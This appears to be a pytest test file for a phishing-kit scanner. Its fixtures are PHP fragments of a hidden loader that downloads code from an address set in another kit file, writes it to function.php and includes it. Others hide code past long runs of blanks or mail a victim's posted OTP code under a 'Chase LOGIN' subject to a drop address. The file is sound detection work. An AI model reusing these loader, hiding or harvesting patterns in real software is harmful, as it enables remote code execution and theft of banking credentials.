"""A phishing kit's hidden loader: code fetched from an address another file of the kit sets,
written to a PHP file and included, and PHP pushed out of sight past a run of blanks."""

from __future__ import annotations

import pytest
from scanner_helpers import analyze_bytes, rule_ids

from spamtrace.scanner.report import ScanVerdict

PAGE = b"<html><body><form action='send.php' method='post'><input name='pass'></form>\n"


def test_a_kit_page_that_runs_what_an_included_address_serves_is_malicious() -> None:
    """The address lives in the kit's anti-bot file; the page copies it into a variable,
    downloads it into function.php and requires that: no literal URL anywhere in the page."""
    data = (
        b"<?php include('antibots.php'); ?>\n" + PAGE + b'<?$function="$get_ip";?>\n'
        b'<?file_put_contents("function.php", file_get_contents($function));'
        b' require_once "function.php";?>\n</body></html>\n'
    )
    result = analyze_bytes(data, "signin.php")
    assert "php.foreign-fetch-include" in rule_ids(result)
    assert result.verdict is ScanVerdict.MALICIOUS


def test_the_loader_moved_into_a_function_that_declares_the_address_global() -> None:
    data = (
        b"<?php\ninclude 'antibots.php';\nfunction boot() {\n  global $get_ip;\n"
        b'  $page = file_get_contents("$get_ip");\n'
        b"  file_put_contents('function.php', $page);\n  require_once 'function.php';\n}\n"
        b"boot();\n"
    )
    assert "php.foreign-fetch-include" in rule_ids(analyze_bytes(data))


@pytest.mark.parametrize(
    "code",
    [
        # a file the script names: the sample settings copied into place
        b"$src = __DIR__ . '/config.sample.php';\n"
        b"file_put_contents('config.php', file_get_contents($src)); require 'config.php';\n",
        # a loop's value: a build step joining the project's files
        b"foreach (glob('src/*.php') as $f) {\n"
        b"  file_put_contents('bundle.php', file_get_contents($f), FILE_APPEND);\n}\n"
        b"require 'bundle.php';\n",
        # a function's parameter
        b"function restore($backup) {\n"
        b"  file_put_contents('settings.php', file_get_contents($backup));\n"
        b"  include 'settings.php';\n}\n",
        # an object's property: the class holds its own path
        b"class Theme {\n  public $file = 'themes/default.php';\n  function load() {\n"
        b"    file_put_contents('theme-cache.php', file_get_contents($this->file));\n"
        b"    include 'theme-cache.php';\n  }\n}\n",
        # the read is written but never included
        b"file_put_contents('cache/page.html', file_get_contents($page_src));\n"
        b"include 'header.php';\n",
    ],
)
def test_a_copy_of_a_source_the_script_knows_is_no_foreign_loader(code: bytes) -> None:
    result = analyze_bytes(b"<?php\n" + code)
    assert "php.foreign-fetch-include" not in rule_ids(result)


def test_code_past_a_run_of_blanks_is_found_and_indentation_is_not() -> None:
    hidden_tag = PAGE + b"</div>" + b" " * 200 + b"<?php echo $x; ?>\n"
    hidden_code = b"<?php" + b"\t" * 160 + b"echo $x;\n"
    indented = PAGE + b" " * 200 + b"<?php echo $x; ?>\n"
    padded_text = b"<pre>Name" + b" " * 200 + b"Total</pre>\n<?php echo $x; ?>\n"
    short_run = PAGE + b"</div>" + b" " * 40 + b"<?php echo $x; ?>\n"
    assert "php.code-past-blanks" in rule_ids(analyze_bytes(hidden_tag))
    assert "php.code-past-blanks" in rule_ids(analyze_bytes(hidden_code))
    for data in (indented, padded_text, short_run):
        assert "php.code-past-blanks" not in rule_ids(analyze_bytes(data))


def test_a_results_mail_to_the_kit_config_address_declared_global_in_a_function() -> None:
    """The handler moved into a function reaches the config's drop address through
    ``global``: naming it there sets nothing, the address is still the included file's."""
    body = (
        b"if (isset($_POST['code'])) {\n  include 'to.php';\n"
        b"  $message = 'OTP: ' . $_POST['code'] . \"\\n\";\n  $subject = 'Chase LOGIN';\n"
        b"  mail($toemail, $subject, $message);\n  header('Location: ./next.php');\n}\n"
    )
    wrapped = b"<?php\nfunction handle() { global $toemail;\n" + body + b"}\nhandle();\n"
    assert "mailer.brand-results-sent" in rule_ids(analyze_bytes(b"<?php\n" + body))
    assert "mailer.brand-results-sent" in rule_ids(analyze_bytes(wrapped))
    # a function that sets the address itself (here from the request: a relay, another
    # rule's business) mails no config's drop address
    own = wrapped.replace(b"include 'to.php';", b"$toemail = $_POST['to'];")
    assert "mailer.brand-results-sent" not in rule_ids(analyze_bytes(own))
